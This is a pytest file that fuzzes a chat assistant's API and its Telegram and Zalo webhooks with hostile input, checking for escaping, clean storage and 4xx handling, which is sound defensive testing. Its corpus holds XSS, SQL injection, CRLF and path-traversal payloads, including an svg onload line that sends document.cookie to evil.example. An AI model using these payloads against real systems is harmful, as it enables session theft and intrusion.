"""A corpus of hostile messages through every door: /api/chat, the Telegram and the Zalo webhooks.

Nothing may answer 500 or crash the app; what is stored is plain text (no control characters) and every
place that shows it to a person treats it as text, never as HTML.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient
from sqlalchemy import inspect, select, text
from sqlalchemy.orm import sessionmaker

from assistant.config import PROJECT_ROOT, Settings
from assistant.main import create_app
from assistant.search_service import SearchService
from channels.models import ChannelDelivery
from tests import chat_ids
from tests.channels import test_telegram as tg
from tests.channels import test_zalo as za
from tests.fakes.local_server import LocalServer
from tests.fakes.rasa_rest import FakeRasa
from tests.fakes.telegram_api import FakeTelegramApi
from tests.fakes.zalo_api import FakeZaloApi

CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")

CORPUS: list[str] = [
    "<script>alert(document.cookie)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "<svg/onload=fetch('//evil.example/'+document.cookie)>",
    "{{7*7}} ${7*7} <%= 7*7 %>",
    "'; DROP TABLE procedures; --",
    "1' OR '1'='1",
    "\" UNION SELECT password FROM staff_users --",
    "đăng ký khai sinh\x00\x01\x02\x1b[31m\x7f",
    "\u202egnp.exe\u202c lam giay khai sinh",
    "\u200b\u200c\u200d\ufeff\u2060" * 200,
    "سلام đăng ký кết hôn 結婚 登记 ကြင်တော်",
    "🙏🏻👨‍👩‍👧‍👦🇻🇳" * 100,
    "a\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301" * 100,
    "Ｌàｍ　ｇｉấｙ　ｋｈａｉ　ｓｉｎｈ",
    "\r\n\r\nHTTP/1.1 200 OK\r\nSet-Cookie: x=1",
    "%00%0d%0a../../../../etc/passwd",
    "x" * 1999,
    "x" * 5000,
    "khai sinh " * 1000,
    "",
    " \t\n ",
    "/choose{\"procedure_code\":\"<script>\"}",
    "/restart",
    "\ud7ff\ue000\uffff",
]
RAW_BODIES: list[bytes] = [
    b"\xff\xfe\xfd not utf-8",
    b'{"sender_id": "a", "text": "\xc3\x28"}',
    b"{not json",
    b'{"sender_id": "a", "text": ',
    b"[" * 5000 + b"]" * 5000,
    b'{"a":' * 3000 + b"1" + b"}" * 3000,
    b"null",
    b"",
    b'{"sender_id": "a", "text": "' + b"A" * (2 * 1024 * 1024) + b'"}',
]


@dataclass
class Doors:
    client: TestClient
    app: FastAPI
    rasa: FakeRasa
    telegram: FakeTelegramApi
    zalo: FakeZaloApi


@pytest.fixture
def doors(tmp_path: Path) -> Iterator[Doors]:
    rasa, telegram, zalo = FakeRasa(), FakeTelegramApi(tg.TOKEN), FakeZaloApi(za.APP_ID, za.APP_SECRET)
    with LocalServer(rasa.app) as rasa_server, LocalServer(telegram.app) as tg_server, \
            LocalServer(zalo.app) as zalo_server:
        settings = Settings(
            database_url=f"sqlite:///{tmp_path / 'hostile.db'}", index_dir=tmp_path / "index",
            rasa_url=rasa_server.url, telegram_bot_token=tg.TOKEN, telegram_secret_token=tg.SECRET,
            telegram_api_base=f"{tg_server.url}/bot{{token}}", zalo_app_id=za.APP_ID,
            zalo_app_secret=za.APP_SECRET, zalo_oa_secret=za.OA_SECRET, zalo_access_token="AT-1",
            zalo_refresh_token="RT-1", zalo_api_base=zalo_server.url, zalo_oauth_base=zalo_server.url,
            rate_limit_chat_per_sender=0, rate_limit_chat_per_ip=0, rate_limit_webhook_per_ip=0)
        app = create_app(settings, search=SearchService(settings, sessionmaker()))
        with TestClient(app, raise_server_exceptions=False) as client:
            app.state.channels.telegram.policy = tg.FAST
            app.state.channels.zalo.policy = za.FAST
            yield Doors(client, app, rasa, telegram, zalo)


def _zalo_headers(body: bytes, app_id: str = za.APP_ID, timestamp: str = "1764000000123") -> dict[str, str]:
    return {"Content-Type": "application/json",
            "X-ZEvent-Signature": za.signature_header(app_id, body, timestamp, za.OA_SECRET)}


def test_hostile_texts_through_the_chat_api_never_fail_and_reach_rasa_clean(doors: Doors) -> None:
    for number, message in enumerate(CORPUS):
        sender = chat_ids.signed(f"h-{number}")
        response = doors.client.post("/api/chat", json={"sender_id": sender, "text": message})
        assert response.status_code in (200, 422), (message[:40], response.status_code)
        assert response.headers["content-type"].startswith("application/json")
    for call in doors.rasa.calls:
        assert not CONTROL.search(call["message"]) and call["message"] == call["message"].strip()
        assert len(call["message"]) <= 2000


@pytest.mark.parametrize("body", RAW_BODIES, ids=range(len(RAW_BODIES)))
def test_broken_bodies_on_every_door_are_refused_with_4xx(doors: Doors, body: bytes) -> None:
    chat = doors.client.post("/api/chat", content=body, headers={"Content-Type": "application/json"})
    telegram = doors.client.post("/webhooks/telegram", content=body, headers={
        "Content-Type": "application/json", "X-Telegram-Bot-Api-Secret-Token": tg.SECRET})
    zalo = doors.client.post("/webhooks/zalo", content=body, headers=_zalo_headers(body))
    for door, response in (("chat", chat), ("telegram", telegram), ("zalo", zalo)):
        assert 400 <= response.status_code < 500, (door, response.status_code, response.text[:200])
    assert doors.rasa.calls == []


def test_hostile_texts_through_both_webhooks_are_answered_as_plain_text(doors: Doors) -> None:
    for number, message in enumerate(CORPUS, start=1):
        update = tg.message_update(number, text=message) if message else tg.message_update(number, text=" ")
        response = doors.client.post("/webhooks/telegram", json=update,
                                     headers={"X-Telegram-Bot-Api-Secret-Token": tg.SECRET})
        assert response.status_code == 200, (message[:40], response.text[:200])
        body = json.dumps(za.event("user_send_text", msg_id=f"z-{number}", text=message),
                          ensure_ascii=False).encode()
        assert doors.client.post("/webhooks/zalo", content=body, headers=_zalo_headers(body)).status_code == 200
    for call in doors.telegram.calls_to("sendMessage"):
        assert "parse_mode" not in call.params  # Telegram must not read our echo of their text as HTML/Markdown
        assert len(call.params["text"]) <= 4096
    for send in doors.zalo.sends:
        assert len(send.message["text"]) <= 2000
    for rasa_call in doors.rasa.calls:
        assert not CONTROL.search(rasa_call["message"])
    with doors.app.state.services.session_factory() as session:
        statuses = set(session.scalars(select(ChannelDelivery.status)))
    assert statuses <= {"sent", "ignored"}


def test_stored_conversation_texts_hold_no_control_characters(doors: Doors) -> None:
    for number, message in enumerate(CORPUS):
        doors.client.post("/api/chat", json={"sender_id": chat_ids.signed(f"s-{number}"), "text": message})
    engine = doors.app.state.services.engine
    tables = set(inspect(engine).get_table_names())
    stored: list[str] = []
    with engine.connect() as connection:
        for table in ("conversation_messages", "question_log"):
            if table in tables:
                stored += [row[0] for row in connection.execute(text(f"SELECT text FROM {table}"))]  # noqa: S608
    if not stored:
        pytest.skip("this build keeps no transcripts or question log")
    assert not [value for value in stored if CONTROL.search(value)]


def test_every_page_that_shows_stored_text_escapes_it() -> None:
    """Widget scripts build DOM nodes with textContent; staff templates autoescape and never mark text safe."""
    scripts = list((PROJECT_ROOT / "channels" / "static").glob("*.js"))
    scripts += list((PROJECT_ROOT / "knowledge" / "admin").rglob("*.js"))
    for script in scripts:
        source = script.read_text(encoding="utf-8")
        for sink in ("innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "eval(", "new Function"):
            assert sink not in source, f"{script.name} uses {sink}"
    for template in (PROJECT_ROOT / "knowledge" / "admin" / "templates").rglob("*.html"):
        source = template.read_text(encoding="utf-8")
        assert "|safe" not in source.replace(" ", "") and "autoescape false" not in source, template.name
    from knowledge.admin.templating import environment

    rendered = environment().from_string("{{ value }}").render(value="<script>alert(1)</script>")
    assert rendered == "&lt;script&gt;alert(1)&lt;/script&gt;"


def test_an_oversized_api_body_is_refused_before_it_is_read_whole(doors: Doors) -> None:
    huge = b'{"sender_id": "a", "text": "' + b"A" * (8 * 1024 * 1024) + b'"}'
    response = doors.client.post("/api/chat", content=huge, headers={"Content-Type": "application/json"})
    assert response.status_code == 413 and "bytes" in response.json()["detail"]

    def chunks() -> Iterator[bytes]:  # no Content-Length: the cap applies while the body streams in
        yield b'{"sender_id": "a", "text": "'
        for _ in range(64):
            yield b"A" * 65536
        yield b'"}'

    streamed = doors.client.post("/api/chat", content=chunks(), headers={"Content-Type": "application/json"})
    assert streamed.status_code in (400, 413)
    assert doors.rasa.calls == []
